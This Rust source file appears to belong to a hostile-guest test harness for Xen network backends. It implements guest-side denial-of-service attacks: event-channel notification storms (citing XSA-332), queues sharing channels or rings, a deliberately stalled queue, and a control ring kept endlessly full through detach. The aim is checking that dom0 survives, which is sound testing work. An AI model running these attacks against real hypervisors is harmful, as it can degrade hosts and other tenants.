//! Attacks on netfront's full layout: several queues, split event channels, the control
//! ring. Dispatched from `attacks::run`; what dom0 must show is checked by
//! testbed/scenarios/hostile.sh (`run_storm`, `run_ctrl_endless`, `run_attack`).

use crate::attacks::{record_probe, Report};
use crate::front::{ConnectTweaks, CtrlRing, Frontend, MqLayout, MqRings};
use crate::Args;
use netif::wire::{
    CtrlRequest, SRING_REQ_EVENT_OFFSET, SRING_RSP_PROD_OFFSET, XEN_NETIF_CTRL_HASH_ALGORITHM_TOEPLITZ,
    XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, XEN_NETIF_CTRL_TYPE_SET_HASH_ALGORITHM,
    XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE,
};
use std::path::Path;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::sleep;
use std::time::{Duration, Instant};

pub const ATTACKS: &[(&str, &str)] = &[
    (
        "storm-split-mq",
        "2 queues, split channels: idle, then notification storms on one TX channel, one RX channel, all four (XSA-332)",
    ),
    ("mq-shared-channel", "2 queues given the same event channel"),
    ("mq-shared-ring", "2 queues given the same TX and RX ring references"),
    (
        "mq-stalled-queue",
        "2 queues, RX buffers posted and drained on queue 0 only, never on queue 1, for --seconds",
    ),
    ("ctrl-endless", "a control ring kept full of GET_HASH_FLAGS requests, req_prod always ahead, through the detach"),
    (
        "ctrl-endless-copy",
        "as ctrl-endless with SET_HASH_MAPPING requests (a 512-byte grant copy each: longer to drain)",
    ),
];

/// dom0 creates this file in the guest (through its command channel) to end an open-ended
/// phase (the storm's last phase, the control ring feeding).
const STOP_FILE: &str = "/tmp/evil.stop";
/// The storm's first phase: connected and silent, dom0's baseline.
const IDLE_SECONDS: u64 = 6;

pub fn leaves_connection_open(attack: &str) -> bool {
    attack.starts_with("ctrl-endless")
}

/// Runs `a.attack` if it is one of ours; returns whether it was.
pub fn run(fe: &mut Frontend, a: &Args, r: &mut Report) -> bool {
    let layout = match a.attack.as_str() {
        "storm-split-mq" => MqLayout { num_queues: 2, split: true, ctrl: false },
        "mq-shared-channel" | "mq-shared-ring" | "mq-stalled-queue" => {
            MqLayout { num_queues: 2, split: false, ctrl: false }
        }
        "ctrl-endless" | "ctrl-endless-copy" => MqLayout { num_queues: 1, split: false, ctrl: true },
        _ => return false,
    };
    let be = fe.backend.clone();
    for key in ["multi-queue-max-queues", "feature-split-event-channels", "feature-ctrl-ring"] {
        r.set(&format!("offer_{key}"), fe.xs.read(&format!("{be}/{key}")).unwrap_or_else(|_| "none".into()));
    }
    let mq = match MqRings::prepare(fe, &layout) {
        Ok(m) => m,
        Err(e) => {
            r.set("error", e);
            return true;
        }
    };
    let mut keys = mq.keys(fe);
    if let Some(q1) = mq.queues.first() {
        let (tx0, rx0) = fe.ring_grefs();
        let q0_port = fe.port.to_string();
        let (q1_port, q1_tx, q1_rx) = (q1.port.to_string(), q1.tx.gref.to_string(), q1.rx.gref.to_string());
        for (k, v) in keys.iter_mut() {
            match (a.attack.as_str(), k.as_str()) {
                ("mq-shared-channel", "queue-1/event-channel") if *v == q1_port => *v = q0_port.clone(),
                ("mq-shared-ring", "queue-1/tx-ring-ref") if *v == q1_tx => *v = tx0.to_string(),
                ("mq-shared-ring", "queue-1/rx-ring-ref") if *v == q1_rx => *v = rx0.to_string(),
                _ => {}
            }
        }
    }
    let tweaks = ConnectTweaks {
        num_queues: (layout.num_queues > 1).then(|| layout.num_queues.to_string()),
        extra_keys: keys,
        ..Default::default()
    };
    let wait = Duration::from_secs(if a.attack.starts_with("mq-") { 10 } else { 60 });
    let Some(connected) = r.connect(fe, &tweaks, wait) else {
        return true;
    };
    match a.attack.as_str() {
        // Like the connect-* attacks: what flows tells whether the backend took the layout.
        "mq-shared-channel" | "mq-shared-ring" => {
            if connected {
                fe.post_rx_buffers();
            }
            record_probe(fe, a.handle, r, "probe");
        }
        "storm-split-mq" if connected => storm(fe, &mq, a, r),
        "mq-stalled-queue" if connected => stalled_queue(fe, &mq, a, r),
        "ctrl-endless" | "ctrl-endless-copy" if connected => match &mq.ctrl {
            Some(ctrl) => ctrl_endless(fe, ctrl, a.attack == "ctrl-endless-copy", a, r),
            None => r.set("error", "no control ring"),
        },
        _ => {}
    }
    true
}

/// The storm: phases of `a.seconds` each on one channel set after an idle phase; the last
/// phase (every channel) lasts until dom0 creates STOP_FILE (or 120 s). Prints
/// `EVIL-PHASE storm` when the idle phase starts: dom0 times its samples from it.
fn storm(fe: &mut Frontend, mq: &MqRings, a: &Args, r: &mut Report) {
    let Some(q1) = mq.queues.first() else {
        r.set("error", "no second queue");
        return;
    };
    let (Some(q0_rx), Some(q1_rx)) = (mq.q0_port_rx, q1.port_rx) else {
        r.set("error", "no split channels");
        return;
    };
    // Kicks by channel: queue 0's TX channel is the connection's own port.
    let kick = |which: usize| match which {
        0 => fe.notify(),
        1 => mq.notify(q0_rx),
        2 => mq.notify(q1.port),
        _ => mq.notify(q1_rx),
    };
    let _ = std::fs::remove_file(STOP_FILE);
    let t0 = Instant::now();
    println!("EVIL-PHASE storm idle={IDLE_SECONDS} phase={}", a.seconds);
    sleep(Duration::from_secs(IDLE_SECONDS));
    // (name, channels kicked in turn, length; None = until STOP_FILE)
    let phases: [(&str, &[usize], Option<u64>); 4] = [
        ("tx", &[0], Some(a.seconds)),
        ("rx", &[1], Some(a.seconds)),
        ("all", &[0, 1, 2, 3], Some(a.seconds)),
        ("load", &[0, 1, 2, 3], None),
    ];
    for (name, chans, len) in phases {
        let start = Instant::now();
        let mut n: u64 = 0;
        println!("EVIL storm phase={name} t={:.1}", t0.elapsed().as_secs_f64());
        loop {
            for _ in 0..250 {
                for &c in chans {
                    kick(c);
                }
            }
            n += 250 * chans.len() as u64;
            let done = match len {
                Some(s) => start.elapsed() >= Duration::from_secs(s),
                None => Path::new(STOP_FILE).exists() || start.elapsed() > Duration::from_secs(120),
            };
            if done {
                break;
            }
        }
        let secs = start.elapsed().as_secs_f64();
        r.set(&format!("{name}_notifies"), n);
        r.set(&format!("{name}_rate"), format!("{:.0}", n as f64 / secs.max(0.001)));
        println!("EVIL load t={:.0} phase={name} notifies={n}", t0.elapsed().as_secs_f64());
    }
    r.set("seconds", t0.elapsed().as_secs());
}

/// Serves queue 0 like netfront (RX buffers posted, responses drained and the buffers
/// reposted every 20 ms) for `a.seconds` and never posts a buffer on queue 1, so that queue
/// stalls as soon as dom0 sends it a packet. Prints `EVIL-PHASE serving` when queue 0's
/// buffers are up: dom0 then sends traffic the backend spreads over both queues and watches
/// the vif's carrier (it must stay off while queue 1 has no buffers).
fn stalled_queue(fe: &mut Frontend, mq: &MqRings, a: &Args, r: &mut Report) {
    let Some(q1) = mq.queues.first() else {
        r.set("error", "no second queue");
        return;
    };
    fe.post_rx_buffers();
    let t0 = Instant::now();
    println!("EVIL-PHASE serving seconds={}", a.seconds);
    let mut frames: u64 = 0;
    while t0.elapsed() < Duration::from_secs(a.seconds) {
        frames += fe.take_rx_frames().len() as u64;
        sleep(Duration::from_millis(20));
    }
    frames += fe.take_rx_frames().len() as u64;
    r.set("q0_frames", frames);
    r.set("q0_rx_errors", fe.rx_stats.errors);
    // Nothing was posted on queue 1: the backend must not have answered anything there.
    r.set("q1_rsp_prod", q1.rx.word(SRING_RSP_PROD_OFFSET).load(Ordering::SeqCst));
    r.set("seconds", t0.elapsed().as_secs());
}

/// The guest's side of the control ring feeding: dom0 keeps the ring full (`evilfront
/// ctrl-feed`, ctrl_feed.rs: req_prod = the backend's rsp_prod + ring size, republished as
/// fast as responses come, from a dom0 vCPU that does not pause; a feeder in this 1-vCPU guest
/// paused for longer than any backend needs to drain a ring, so no backend loop outlasted
/// it). Here: the setup requests and one GET_HASH_FLAGS, then `EVIL ctrl ready` with the grant
/// references dom0 needs; from then on this process never writes `req_prod` (dom0 owns it). A
/// second thread counts the responses and, until the backend leaves Connected, kicks
/// `event-channel-ctrl` whenever the backend's `req_event` asks for it (dom0 cannot signal the
/// guest's end of the channel), while this
/// one plays netfront's side of a detach (Closing, then Closed, when the backend goes
/// Closing). It goes on until STOP_FILE or `a.seconds`: the backend must not depend on the
/// frontend stopping.
/// With `copy`, dom0's requests are SET_HASH_MAPPINGs of the whole (128-entry) table from the
/// data page, which the backend grant-copies; the setup makes them valid.
fn ctrl_endless(fe: &mut Frontend, ctrl: &CtrlRing, copy: bool, a: &Args, r: &mut Report) {
    let _ = std::fs::remove_file(STOP_FILE);
    const MAPPING: u32 = 128;
    let setup = |kind: u16, d0: u32| {
        let idx = ctrl.req_prod();
        ctrl.request(CtrlRequest { id: idx as u16, kind, data: [d0, 0, 0] }, Duration::from_secs(5))
            .map_or("none".into(), |p| p.status.to_string())
    };
    if copy {
        // The table is all queue 0 (the data page is zeroed); Toeplitz and a 128-entry table
        // make SET_HASH_MAPPING valid, so each request is answered after a real copy.
        r.set("alg_status", setup(XEN_NETIF_CTRL_TYPE_SET_HASH_ALGORITHM, XEN_NETIF_CTRL_HASH_ALGORITHM_TOEPLITZ));
        r.set("size_status", setup(XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE, MAPPING));
    }
    // One request first: the ring works at all.
    r.set("first_status", setup(XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, 0));
    let (stop, closing) = (AtomicBool::new(false), AtomicBool::new(false));
    let (answered, caught_up, kicks) = (AtomicU64::new(0), AtomicU64::new(0), AtomicU64::new(0));
    let t0 = Instant::now();
    let mut timeline = Vec::new();
    std::thread::scope(|s| {
        s.spawn(|| {
            let mut last_rsp = ctrl.rsp_prod();
            let mut kicked_at: Option<u32> = None;
            let mut last_kick = Instant::now();
            while !stop.load(Ordering::Relaxed) {
                let (req_prod, rsp) = (ctrl.req_prod(), ctrl.rsp_prod());
                if rsp != last_rsp {
                    answered.fetch_add(u64::from(rsp.wrapping_sub(last_rsp)), Ordering::Relaxed);
                    last_rsp = rsp;
                }
                if rsp == req_prod {
                    caught_up.fetch_add(1, Ordering::Relaxed);
                }
                // The backend went idle and armed req_event at or below what dom0 published:
                // RING_PUSH_REQUESTS_AND_CHECK_NOTIFY's kick, once per armed value, and now
                // and then anyway in case one was lost.
                // Not once the detach began: from then on the backend must stop on its own.
                let event = ctrl.page.word(SRING_REQ_EVENT_OFFSET).load(Ordering::SeqCst);
                let due = req_prod.wrapping_sub(event) < 0x8000_0000 && kicked_at != Some(event);
                if !closing.load(Ordering::Relaxed) && (due || last_kick.elapsed() > Duration::from_millis(100)) {
                    ctrl.notify();
                    kicks.fetch_add(1, Ordering::Relaxed);
                    kicked_at = Some(event);
                    last_kick = Instant::now();
                }
                // Seldom: each wakeup of this guest's vCPU may take a pCPU from dom0's feeder.
                sleep(Duration::from_millis(10));
            }
        });
        println!("EVIL ctrl ready ring_gref={} data_gref={}", ctrl.page.gref, ctrl.data.gref);
        let be_state = format!("{}/state", fe.backend);
        let fe_state = format!("{}/state", fe.dir);
        let mut last_report = Instant::now();
        let mut last_state = Some(4);
        while t0.elapsed() < Duration::from_secs(a.seconds) && !Path::new(STOP_FILE).exists() {
            let st = fe.xs.read_u32(&be_state);
            // Once our backend is gone, a fresh vif may get the same handle: leave it alone.
            if st != last_state && last_state.is_some() {
                let t = t0.elapsed().as_secs_f64();
                timeline.push(format!("{:.1}:{}", t, st.map_or("gone".into(), |v| v.to_string())));
                println!("EVIL t={t:.1} backend state {st:?}");
                closing.store(true, Ordering::Relaxed);
                // netfront's answer to a detach (xenbus_frontend_closed): Closing, Closed.
                match st {
                    Some(5) => {
                        let _ = fe.xs.write(&fe_state, "5");
                        let _ = fe.xs.write(&fe_state, "6");
                    }
                    Some(6) => {
                        let _ = fe.xs.write(&fe_state, "6");
                    }
                    _ => {}
                }
                last_state = st;
            }
            if last_report.elapsed() > Duration::from_secs(5) {
                println!("EVIL load t={} answered={}", t0.elapsed().as_secs(), answered.load(Ordering::Relaxed));
                last_report = Instant::now();
            }
            sleep(Duration::from_millis(100));
        }
        stop.store(true, Ordering::Relaxed);
    });
    r.set("answered", answered.load(Ordering::Relaxed));
    r.set("caught_up", caught_up.load(Ordering::Relaxed));
    r.set("kicks", kicks.load(Ordering::Relaxed));
    r.set("seconds", t0.elapsed().as_secs());
    r.set("backend_states", if timeline.is_empty() { "none".into() } else { timeline.join(",") });
}
